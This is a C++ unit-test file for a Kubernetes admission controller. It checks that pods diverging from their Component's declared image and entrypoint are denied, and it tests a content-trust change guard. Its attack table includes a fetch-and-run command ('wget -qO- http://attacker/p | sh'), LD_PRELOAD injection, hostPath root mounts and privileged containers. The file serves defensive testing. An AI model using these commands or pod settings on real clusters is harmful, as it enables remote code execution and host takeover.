// A pod is its Component's code (src/admission/binding.h, pod_rules.h):
// every attack on the in-process path as a table row through admit_pod, each
// denied with its own reason; the legitimate shapes admitted; the same pod in
// the sandbox admitted with a warning; the trust guard on Component UPDATE.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "admission/binding.h"
#include "admission/catalog.h"
#include "admission/pod_rules.h"
#include "admission/trust_guard.h"
#include "config/defaults.h"
#include "model/component.h"
#include "model/pod.h"

namespace ig::admission {
namespace {

using ::testing::HasSubstr;
using json = nlohmann::json;
using policy::Decision;
using policy::DeploymentShape;
using policy::SandboxAvailability;

constexpr const char* kNs = "team-a";
constexpr const char* kImage = "registry.example.com/tool:1";
constexpr const char* kSidecar = "registry.example.com/mesh/proxy:1";

model::Component component(const std::string& name, const std::string& trust) {
  json doc = {{"apiVersion", "gibson.zeroroot.ai/v1alpha1"},
              {"kind", "Component"},
              {"metadata", {{"name", name}, {"namespace", kNs}}},
              {"spec",
               {{"kind", "tool"},
                {"image", kImage},
                {"args", {"--serve"}},
                {"exec", json::array({{{"command", {"/bin/healthcheck"}}}, {{"command", {"/bin/healthcheck", "--quick"}}}})},
                {"policy", {{"content_trust", trust}}}}}};
  auto c = model::decode_component(doc, "test");
  EXPECT_TRUE(c.ok()) << c.error();
  return *c;
}

StaticCatalog catalog() {
  StaticCatalog out;
  EXPECT_TRUE(out.add(component("trusted-tool", "trusted"), kNs));
  EXPECT_TRUE(out.add(component("untrusted-tool", "untrusted"), kNs));
  return out;
}

GateSettings settings(DeploymentShape shape = DeploymentShape::SetecOnly) {
  GateSettings s;
  s.runtime_class = std::string(config::kDefaultRuntimeClass);
  s.own_namespace = std::string(config::kDefaultNamespace);
  s.shape = {shape, false};
  s.enforcement_admins = {"system:masters"};
  s.trust_admins = {"platform-reviewers"};
  auto extras = model::parse_image_patterns(kSidecar);
  EXPECT_TRUE(extras.ok());
  s.allowed_extra_images = *extras;
  s.allowed_kata_annotations = {"io.katacontainers.config.hypervisor.default_vcpus"};
  return s;
}

// The Component's own pod: its image and its declared args.
json good_pod(const std::string& name = "trusted-tool") {
  return {{"apiVersion", "v1"},
          {"kind", "Pod"},
          {"metadata", {{"name", "p"}, {"namespace", kNs}, {"labels", {{"gibson.zeroroot.ai/component", name}}}}},
          {"spec",
           {{"containers",
             json::array({{{"name", "app"}, {"image", kImage}, {"args", {"--serve"}}}})}}}};
}

PodVerdict admit(const json& object, SandboxAvailability sb, Stage stage = Stage::Mutate,
                 DeploymentShape shape = DeploymentShape::SetecOnly, const model::PodFacts* old = nullptr,
                 Requester requester = {}) {
  static const StaticCatalog components = catalog();
  const FixedSandbox sandbox(sb);
  const AdmissionContext context{settings(shape), components, sandbox};
  auto where = model::locate_pod(object, "test");
  EXPECT_TRUE(where.ok()) << where.error();
  auto facts = model::read_pod_facts(object, *where, "test");
  EXPECT_TRUE(facts.ok()) << facts.error();
  return admit_pod(*facts, *where, kNs, context, stage, old, requester);
}

std::string audit(const PodVerdict& v, const std::string& key) {
  for (const auto& [k, val] : v.answer.audit)
    if (k == key) return val;
  return {};
}

struct Attack {
  const char* name;
  void (*apply)(json& pod);
  Reason reason;
  const char* needle;  // in the denial: names the field and the container
};

void PrintTo(const Attack& a, std::ostream* os) { *os << a.name; }

json& app(json& pod) { return pod["spec"]["containers"][0]; }

const Attack kAttacks[] = {
    {"OwnCommand", [](json& p) { app(p)["command"] = {"sh", "-c", "wget -qO- http://attacker/p | sh"}; },
     Reason::EntrypointNotBound,
     R"(container "app" sets command ["sh","-c","wget -qO- http://attacker/p | sh"] where the Component declares spec.command none)"},
    {"OwnArgs", [](json& p) { app(p)["args"] = {"--eval", "payload"}; }, Reason::EntrypointNotBound,
     R"(container "app" sets args ["--eval","payload"] where the Component declares spec.args ["--serve"])"},
    {"ArgsRemoved", [](json& p) { app(p).erase("args"); }, Reason::EntrypointNotBound,
     R"(container "app" sets args (none))"},
    {"PostStartExec",
     [](json& p) { app(p)["lifecycle"] = {{"postStart", {{"exec", {{"command", {"sh", "-c", "x"}}}}}}}; },
     Reason::EntrypointNotBound, R"(runs ["sh","-c","x"] in lifecycle.postStart.exec)"},
    {"PreStopExec", [](json& p) { app(p)["lifecycle"] = {{"preStop", {{"exec", {{"command", {"/x"}}}}}}}; },
     Reason::EntrypointNotBound, "in lifecycle.preStop.exec"},
    {"LivenessExec", [](json& p) { app(p)["livenessProbe"] = {{"exec", {{"command", {"sh", "-c", "y"}}}}}; },
     Reason::EntrypointNotBound, "in livenessProbe.exec"},
    {"ReadinessExec", [](json& p) { app(p)["readinessProbe"] = {{"exec", {{"command", {"/y"}}}}}; },
     Reason::EntrypointNotBound, "in readinessProbe.exec"},
    {"StartupExec", [](json& p) { app(p)["startupProbe"] = {{"exec", {{"command", {"/z"}}}}}; },
     Reason::EntrypointNotBound, "in startupProbe.exec"},
    {"InitContainerOwnCommand",
     [](json& p) { p["spec"]["initContainers"] = json::array({{{"name", "setup"}, {"image", kImage}, {"command", {"sh"}}}}); },
     Reason::EntrypointNotBound,
     R"(container "init:setup" runs ["sh"], which is neither the Component's entrypoint (spec.command, spec.args) nor one of its spec.exec commands)"},
    {"LdPreload",
     [](json& p) { app(p)["env"] = json::array({{{"name", "LD_PRELOAD"}, {"value", "/cfg/evil.so"}}}); },
     Reason::LoaderEnvNotAllowed, R"(container "app" sets env LD_PRELOAD)"},
    {"NodeOptionsFromSecret",
     [](json& p) {
       app(p)["env"] = json::array({{{"name", "A"}, {"value", "1"}},
                                    {{"name", "NODE_OPTIONS"}, {"valueFrom", {{"secretKeyRef", {{"name", "s"}}}}}}});
     },
     Reason::LoaderEnvNotAllowed, "sets env NODE_OPTIONS"},
    {"LoaderEnvOnSidecar",
     [](json& p) {
       p["spec"]["containers"].push_back(
           {{"name", "proxy"}, {"image", kSidecar}, {"env", json::array({{{"name", "PYTHONPATH"}, {"value", "/x"}}})}});
     },
     Reason::LoaderEnvNotAllowed, R"(container "proxy" sets env PYTHONPATH)"},
    {"EnvFrom", [](json& p) { app(p)["envFrom"] = json::array({{{"configMapRef", {{"name", "cfg"}}}}}); },
     Reason::LoaderEnvNotAllowed, R"(container "app" takes envFrom)"},
    {"ImageVolume",
     [](json& p) { p["spec"]["volumes"] = json::array({{{"name", "tools"}, {"image", {{"reference", "evil.example/t:1"}}}}}); },
     Reason::ImageNotBound, R"(image volume "tools" mounts "evil.example/t:1")"},
    {"SidecarsOnly", [](json& p) { app(p)["image"] = kSidecar; app(p).erase("args"); }, Reason::ImageNotBound,
     "no container runs the Component's image"},
    {"Privileged", [](json& p) { app(p)["securityContext"] = {{"privileged", true}}; },
     Reason::HostAccessOutsideMicroVM, R"(privileged container "app")"},
    {"HostPID", [](json& p) { p["spec"]["hostPID"] = true; }, Reason::HostAccessOutsideMicroVM, "hostPID"},
    {"HostNetwork", [](json& p) { p["spec"]["hostNetwork"] = true; }, Reason::HostAccessOutsideMicroVM, "hostNetwork"},
    {"HostIPC", [](json& p) { p["spec"]["hostIPC"] = true; }, Reason::HostAccessOutsideMicroVM, "hostIPC"},
    {"HostPath",
     [](json& p) { p["spec"]["volumes"] = json::array({{{"name", "root"}, {"hostPath", {{"path", "/"}}}}}); },
     Reason::HostAccessOutsideMicroVM, R"(hostPath volume "root")"},
    {"SysAdminCapability",
     [](json& p) { app(p)["securityContext"] = {{"capabilities", {{"add", {"NET_BIND_SERVICE", "CAP_SYS_ADMIN"}}}}}; },
     Reason::HostAccessOutsideMicroVM, R"(capability CAP_SYS_ADMIN added to container "app")"},
    {"DebugContainer",
     [](json& p) { p["spec"]["ephemeralContainers"] = json::array({{{"name", "debugger"}, {"image", kImage}}}); },
     Reason::EphemeralContainerRefused, R"(ephemeral container "debugger" would run beside component)"},
};

class InProcessAttack : public ::testing::TestWithParam<Attack> {};

// Every attack, on every stage that judges a pod outside a microVM: denied
// with its reason, naming the field and the container.
TEST_P(InProcessAttack, IsDeniedWithItsReason) {
  const Attack& attack = GetParam();
  json pod = good_pod();
  attack.apply(pod);
  for (Stage stage : {Stage::Mutate, Stage::Validate, Stage::Evaluate}) {
    const PodVerdict v = admit(pod, SandboxAvailability::Unavailable, stage);
    EXPECT_EQ(v.decision, Decision::AllowInProcess);
    EXPECT_FALSE(v.answer.allowed());
    EXPECT_EQ(v.answer.reason, attack.reason) << v.answer.message;
    EXPECT_EQ(audit(v, "reason"), to_string(attack.reason));
    EXPECT_THAT(v.answer.message, HasSubstr(attack.needle));
    EXPECT_THAT(v.answer.message, HasSubstr("To fix"));
    EXPECT_TRUE(v.patch.empty());
  }
  // Untrusted in the customer-isolation shape runs in-process too: the same rules.
  json untrusted = pod;
  untrusted["metadata"]["labels"]["gibson.zeroroot.ai/component"] = "untrusted-tool";
  const PodVerdict u = admit(untrusted, SandboxAvailability::Unavailable, Stage::Mutate,
                             DeploymentShape::CustomerIsolation);
  EXPECT_EQ(u.decision, Decision::AllowInProcess);
  EXPECT_EQ(u.answer.reason, attack.reason) << u.answer.message;
}

INSTANTIATE_TEST_SUITE_P(Attacks, InProcessAttack, ::testing::ValuesIn(kAttacks),
                         [](const auto& info) { return std::string(info.param.name); });

// The same pods as workload templates: denied at apply time, as their pods would be.
TEST(InProcessAttack, AWorkloadTemplateIsJudgedTheSame) {
  for (const Attack& attack : kAttacks) {
    if (attack.reason == Reason::EphemeralContainerRefused) continue;  // templates have none
    json pod = good_pod();
    attack.apply(pod);
    json deployment = {{"apiVersion", "apps/v1"},
                       {"kind", "Deployment"},
                       {"metadata", {{"name", "d"}, {"namespace", kNs}}},
                       {"spec", {{"template", {{"metadata", pod["metadata"]}, {"spec", pod["spec"]}}}}}};
    const PodVerdict v = admit(deployment, SandboxAvailability::Unavailable, Stage::Workload);
    EXPECT_EQ(v.answer.reason, attack.reason) << attack.name << ": " << v.answer.message;
  }
}

struct Legit {
  const char* name;
  void (*apply)(json& pod);
};

void PrintTo(const Legit& l, std::ostream* os) { *os << l.name; }

const Legit kLegit[] = {
    {"DeclaredArgs", [](json&) {}},
    {"HttpGetProbeAndHook",
     [](json& p) {
       app(p)["livenessProbe"] = {{"httpGet", {{"path", "/healthz"}, {"port", 8080}}}};
       app(p)["lifecycle"] = {{"preStop", {{"sleep", {{"seconds", 5}}}}}};
     }},
    {"DeclaredExecProbe", [](json& p) { app(p)["readinessProbe"] = {{"exec", {{"command", {"/bin/healthcheck"}}}}}; }},
    {"SidecarOnAllowedImage",
     [](json& p) { p["spec"]["containers"].push_back({{"name", "proxy"}, {"image", kSidecar}, {"args", {"proxy"}}}); }},
    {"OrdinaryEnvAndVolumes",
     [](json& p) {
       app(p)["env"] = json::array({{{"name", "LOG_LEVEL"}, {"value", "debug"}}, {{"name", "LD_PRELOAD_X"}}});
       p["spec"]["volumes"] = json::array({{{"name", "cfg"}, {"configMap", {{"name", "c"}}}}});
     }},
    {"DefaultCapabilityAndEmptyEnvFrom",
     [](json& p) {
       app(p)["securityContext"] = {{"capabilities", {{"add", {"net_bind_service"}}, {"drop", {"ALL"}}}}};
       app(p)["envFrom"] = json::array();
     }},
    {"EmptyCommandIsTheImagesOwn", [](json& p) { app(p)["command"] = json::array(); }},
    // An init container on the Component's image runs a declared spec.exec command (command, then args).
    {"InitContainerRunsADeclaredExecCommand",
     [](json& p) {
       p["spec"]["initContainers"] =
           json::array({{{"name", "migrate"}, {"image", kImage}, {"command", {"/bin/healthcheck"}}, {"args", {"--quick"}}}});
     }},
    {"InitContainerRunsTheEntrypoint",
     [](json& p) { p["spec"]["initContainers"] = json::array({{{"name", "warm"}, {"image", kImage}, {"args", {"--serve"}}}}); }},
};

class InProcessLegit : public ::testing::TestWithParam<Legit> {};

TEST_P(InProcessLegit, IsAdmitted) {
  json pod = good_pod();
  GetParam().apply(pod);
  for (Stage stage : {Stage::Mutate, Stage::Validate, Stage::Evaluate}) {
    const PodVerdict v = admit(pod, SandboxAvailability::Unavailable, stage);
    EXPECT_TRUE(v.answer.allowed()) << v.answer.message;
    EXPECT_EQ(v.answer.reason, Reason::TrustedInProcess);
  }
}

INSTANTIATE_TEST_SUITE_P(Shapes, InProcessLegit, ::testing::ValuesIn(kLegit),
                         [](const auto& info) { return std::string(info.param.name); });

// In the microVM the entrypoint, loader and capability rules do not deny,
// but the pod is told it would be denied if the sandbox went away.
TEST(SandboxedPod, UnboundCodeIsAdmittedWithAWarning) {
  for (const Attack& attack : kAttacks) {
    if (attack.reason != Reason::EntrypointNotBound && attack.reason != Reason::LoaderEnvNotAllowed) continue;
    json pod = good_pod("untrusted-tool");
    attack.apply(pod);
    const PodVerdict v = admit(pod, SandboxAvailability::Available);
    EXPECT_TRUE(v.answer.allowed()) << attack.name << ": " << v.answer.message;
    EXPECT_EQ(v.decision, Decision::RequireSetec);
    EXPECT_EQ(audit(v, "unbound-outside-microvm"), "true") << attack.name;
    EXPECT_THAT(v.answer.warnings, ::testing::Contains(HasSubstr("would be denied if the sandbox went away")));
  }
  const PodVerdict clean = admit(good_pod("untrusted-tool"), SandboxAvailability::Available);
  EXPECT_EQ(audit(clean, "unbound-outside-microvm"), "");
  EXPECT_TRUE(clean.answer.warnings.empty());
}

// What the warning names, and what the drift audit counts (one function):
// host access first, then the entrypoint, then loader variables, as the
// denial outside a microVM checks them; nothing for the Component's own pod.
TEST(SandboxedPod, UnboundOutsideMicroVMNamesWhatTheDenialWouldInItsOrder) {
  const model::Component c = component("untrusted-tool", "untrusted");
  const auto facts = [](const json& pod) {
    auto where = model::locate_pod(pod, "test");
    EXPECT_TRUE(where.ok()) << where.error();
    auto f = model::read_pod_facts(pod, *where, "test");
    EXPECT_TRUE(f.ok()) << f.error();
    return *f;
  };
  EXPECT_TRUE(unbound_outside_microvm(facts(good_pod("untrusted-tool")), c, settings()).empty());
  json pod = good_pod("untrusted-tool");
  pod["spec"]["containers"][0]["args"] = {"--x"};
  pod["spec"]["containers"][0]["envFrom"] = json::array({{{"configMapRef", {{"name", "cfg"}}}}});
  pod["spec"]["containers"][0]["securityContext"]["capabilities"]["add"] = {"NET_ADMIN"};
  const std::vector<std::string> phrases = unbound_outside_microvm(facts(pod), c, settings());
  ASSERT_EQ(phrases.size(), 3u);
  EXPECT_THAT(phrases[0], HasSubstr("capability NET_ADMIN"));
  EXPECT_EQ(phrases[1], R"(container "app" sets args ["--x"] where the Component declares spec.args ["--serve"])");
  EXPECT_EQ(phrases[2], R"(container "app" takes envFrom (its keys cannot be checked))");
  const PodVerdict v = admit(pod, SandboxAvailability::Available);
  ASSERT_TRUE(v.answer.allowed()) << v.answer.message;
  EXPECT_EQ(audit(v, "unbound-outside-microvm"), "true");
  EXPECT_THAT(v.answer.warnings, ::testing::Contains(HasSubstr("would be denied if the sandbox went away")));
}

TEST(SandboxedPod, AnAllowedKataAnnotationIsAdmittedAndAnyOtherRefused) {
  json pod = good_pod("untrusted-tool");
  pod["metadata"]["annotations"] = {{"io.katacontainers.config.hypervisor.default_vcpus", "2"}};
  EXPECT_TRUE(admit(pod, SandboxAvailability::Available).answer.allowed());
  pod["metadata"]["annotations"]["io.katacontainers.config.hypervisor.kernel_params"] = "init=/bin/sh";
  const PodVerdict v = admit(pod, SandboxAvailability::Available);
  EXPECT_EQ(v.answer.reason, Reason::IncompatibleWithMicroVM);
  EXPECT_THAT(v.answer.message, HasSubstr("annotation \"io.katacontainers.config.hypervisor.kernel_params\""));
  EXPECT_THAT(v.answer.message, ::testing::Not(HasSubstr("default_vcpus")));
}

// kubectl debug on a running in-process pod: pods/ephemeralcontainers UPDATE.
TEST(DebugContainers, OnlyAnEnforcementAdminMayAddOneAndNeverPrivileged) {
  const json before = good_pod();
  auto where = model::locate_pod(before, "old");
  auto old = model::read_pod_facts(before, *where, "old");
  ASSERT_TRUE(old.ok());
  json after = before;
  after["spec"]["ephemeralContainers"] = json::array({{{"name", "debugger-x"}, {"image", "busybox:1.36"}}});
  const std::vector<std::string> users = {"system:authenticated"};
  const std::vector<std::string> admins = {"system:authenticated", "system:masters"};

  PodVerdict v = admit(after, SandboxAvailability::Unavailable, Stage::Update, DeploymentShape::SetecOnly, &*old,
                       Requester{"mallory", users});
  EXPECT_EQ(v.answer.reason, Reason::EphemeralContainerRefused);
  EXPECT_THAT(v.answer.message, HasSubstr("user \"mallory\" is not an enforcement admin"));

  v = admit(after, SandboxAvailability::Unavailable, Stage::Update, DeploymentShape::SetecOnly, &*old,
            Requester{"root", admins});
  EXPECT_TRUE(v.answer.allowed()) << v.answer.message;
  EXPECT_EQ(audit(v, "debug-admin-group"), "system:masters");

  after["spec"]["ephemeralContainers"][0]["securityContext"] = {{"privileged", true}};  // --profile=sysadmin
  v = admit(after, SandboxAvailability::Unavailable, Stage::Update, DeploymentShape::SetecOnly, &*old,
            Requester{"root", admins});
  EXPECT_EQ(v.answer.reason, Reason::HostAccessOutsideMicroVM);

  // In the sandbox a non-admin may debug with the Component's image (the binding holds there).
  json sandboxed = good_pod("untrusted-tool");
  sandboxed["spec"]["runtimeClassName"] = "kata-fc";
  auto sw = model::locate_pod(sandboxed, "old");
  auto sold = model::read_pod_facts(sandboxed, *sw, "old");
  sandboxed["spec"]["ephemeralContainers"] = json::array({{{"name", "d"}, {"image", kImage}}});
  v = admit(sandboxed, SandboxAvailability::Available, Stage::Update, DeploymentShape::SetecOnly, &*sold,
            Requester{"mallory", users});
  EXPECT_TRUE(v.answer.allowed()) << v.answer.message;
}

// ---- the Component spec -----------------------------------------------------

TEST(ComponentSpec, DeclaresCommandArgsAndExec) {
  const model::Component c = component("t", "trusted");
  EXPECT_EQ(c.entrypoint().command, std::nullopt);
  EXPECT_EQ(c.entrypoint().args, (std::vector<std::string>{"--serve"}));
  ASSERT_EQ(c.entrypoint().exec.size(), 2u);
  EXPECT_EQ(c.entrypoint().exec[0], (std::vector<std::string>{"/bin/healthcheck"}));
}

TEST(ComponentSpec, WrongShapesAreErrorsNamingTheField) {
  struct Case {
    json spec;
    const char* error;
  };
  const Case cases[] = {
      {{{"image", kImage}, {"command", "sh -c x"}}, "spec.command: expected a list of strings, got a string"},
      {{{"image", kImage}, {"args", {1}}}, "spec.args[0]: expected a list of strings, got a number"},
      {{{"image", kImage}, {"exec", {"x"}}}, "spec.exec[0]: expected a map with command, got a string"},
      {{{"image", kImage}, {"exec", {{{"command", "x"}}}}}, "spec.exec[0].command: expected a list of strings"},
  };
  for (const auto& c : cases) {
    json doc = {{"apiVersion", "gibson.zeroroot.ai/v1alpha1"},
                {"kind", "Component"},
                {"metadata", {{"name", "x"}}},
                {"spec", c.spec}};
    auto got = model::decode_component(doc, "c.yaml");
    ASSERT_FALSE(got.ok()) << c.spec.dump();
    EXPECT_THAT(got.error(), HasSubstr(c.error));
  }
}

TEST(ComponentSpec, ProblemsAreAnEmptyExecCommandAndDeclarationsWithoutAnImage) {
  model::Component c = component("t", "trusted");
  model::Entrypoint declared = c.entrypoint();
  declared.exec.push_back({});
  c.set_entrypoint(declared);
  EXPECT_THAT(model::component_problems(c, "c"), ::testing::Contains(HasSubstr("spec.exec[2].command: required")));
  declared.exec.pop_back();
  c.set_entrypoint(declared);
  c.image.clear();
  EXPECT_THAT(model::component_problems(c, "c"), ::testing::Contains(HasSubstr("declare spec.image too")));
}

// ---- the trust guard ----------------------------------------------------------

AdmissionRequest component_update(const std::optional<std::string>& before, const std::optional<std::string>& after,
                                  std::vector<std::string> groups) {
  auto doc = [](const std::optional<std::string>& trust) {
    json d = {{"apiVersion", "gibson.zeroroot.ai/v1alpha1"},
              {"kind", "Component"},
              {"metadata", {{"name", "c"}, {"namespace", kNs}}},
              {"spec", {{"image", kImage}}}};
    if (trust) d["spec"]["policy"] = {{"content_trust", *trust == "null" ? json(nullptr) : json(*trust)}};
    return d;
  };
  AdmissionRequest r;
  r.operation = Operation::Update;
  r.namespace_ = kNs;
  r.name = "c";
  r.username = "bob";
  r.groups = std::move(groups);
  r.object = doc(after);
  r.old_object = doc(before);
  return r;
}

TEST(TrustGuard, LooseningIsAnAdminsChangeTighteningIsAnyones) {
  struct Case {
    std::optional<std::string> before, after;
    std::vector<std::string> groups;
    std::optional<Reason> reason;  // nullopt: not a trust change
  };
  const std::vector<std::string> user = {"system:authenticated"};
  const std::vector<std::string> reviewer = {"system:authenticated", "platform-reviewers"};
  const Case cases[] = {
      {"untrusted", "trusted", user, Reason::ContentTrustChangeRefused},
      {"untrusted", std::nullopt, user, Reason::ContentTrustChangeRefused},
      {"untrusted", "null", user, Reason::ContentTrustChangeRefused},
      {"untrusted", "", user, Reason::ContentTrustChangeRefused},
      {"bogus", "trusted", user, Reason::ContentTrustChangeRefused},  // invalid was untrusted
      {"untrusted", "trusted", reviewer, Reason::ContentTrustLoosenedByAdmin},
      {"trusted", "untrusted", user, Reason::ContentTrustTightened},
      {std::nullopt, "untrusted", user, Reason::ContentTrustTightened},
      {"trusted", std::nullopt, user, std::nullopt},
      {"untrusted", "untrusted", user, std::nullopt},
  };
  for (const auto& c : cases) {
    const AdmissionRequest r = component_update(c.before, c.after, c.groups);
    auto now = model::decode_component(r.object, "now");
    ASSERT_TRUE(now.ok()) << now.error();
    const auto got = guard_trust_change(r, *now, settings());
    const std::string label = c.before.value_or("(omitted)") + " -> " + c.after.value_or("(omitted)");
    if (!c.reason) {
      EXPECT_FALSE(got.has_value()) << label;
      continue;
    }
    ASSERT_TRUE(got.has_value()) << label;
    EXPECT_EQ(got->reason, *c.reason) << label << ": " << got->message;
    auto change = trust_change(r, *got);
    ASSERT_TRUE(change.has_value()) << label;
    EXPECT_EQ(change->kind, "Component");
    EXPECT_EQ(change->name, "c");
    EXPECT_EQ(change->username, "bob");
    if (*c.reason == Reason::ContentTrustLoosenedByAdmin) {
      EXPECT_EQ(change->admin_group, "platform-reviewers");
      EXPECT_THAT(got->warnings, ::testing::Contains(HasSubstr("is now trusted")));
    }
    if (*c.reason == Reason::ContentTrustChangeRefused) {
      EXPECT_THAT(got->message, HasSubstr("is not in a trust-admin group (it is one of: platform-reviewers)"));
    }
  }
}

}  // namespace
}  // namespace ig::admission
